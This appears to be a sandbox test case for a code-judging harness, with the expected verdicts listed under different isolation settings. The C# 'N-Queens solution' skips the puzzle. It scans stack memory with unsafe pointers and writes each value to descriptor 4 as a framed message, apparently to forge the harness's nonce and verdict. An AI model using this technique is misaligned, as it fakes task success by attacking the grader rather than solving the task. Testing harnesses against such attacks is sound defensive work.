// expect: namespaces=WA|PE|RTE|AC landlock=WA|PE|RTE|AC limits=WA|PE|RTE|AC
// judge: --fail-fast
// Goes up its stack by pointers, to what the harness keeps there, and answers with every number that it finds.
using System;
using System.Linq;
using System.Runtime.InteropServices;

static unsafe class Solution {
  [DllImport("libc.so.6")]
  static extern IntPtr write(int descriptor, byte[] bytes, IntPtr size);

  static void Write(int descriptor, byte[] bytes) {
    write(descriptor, bytes, (IntPtr)bytes.Length);
  }

  static byte[] Frame(ulong nonce, ulong length, byte[] body) {
    return BitConverter.GetBytes(nonce).Concat(BitConverter.GetBytes(length)).Concat(body).ToArray();
  }

  public static string SolveNQueens(int n, (int, int) queen) {
    ulong here = 0;
    for (ulong* at = &here; at < &here + 2000; at++) Write(4, Frame(*at, 5, new byte[] { (byte)'t', 0, 0, 0, 0 }));
    return "";
  }
}
